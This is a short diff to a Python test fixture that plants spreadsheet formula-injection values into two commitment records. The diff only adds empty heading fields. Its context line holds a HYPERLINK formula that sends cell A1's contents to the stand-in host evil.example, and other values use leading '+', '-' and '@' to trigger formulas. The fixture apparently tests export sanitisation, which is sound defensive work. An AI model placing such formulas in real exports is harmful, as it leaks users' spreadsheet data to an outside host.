@@ -21,8 +21,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 def hostile(seed_ledger):
     """Two commitments of the seed report whose text and part a spreadsheet would run."""
     first, second = seed_ledger.commitments.filter(testable=True).order_by("start")[:2]
-    Commitment.objects.filter(pk=first.pk).update(text=HOSTILE, part="+1+2")
-    Commitment.objects.filter(pk=second.pk).update(text="@SUM(1,2)", part="-3")
+    Commitment.objects.filter(pk=first.pk).update(text=HOSTILE, part="+1+2", part_heading="")
+    Commitment.objects.filter(pk=second.pk).update(text="@SUM(1,2)", part="-3", part_heading="")
     return seed_ledger
 
 
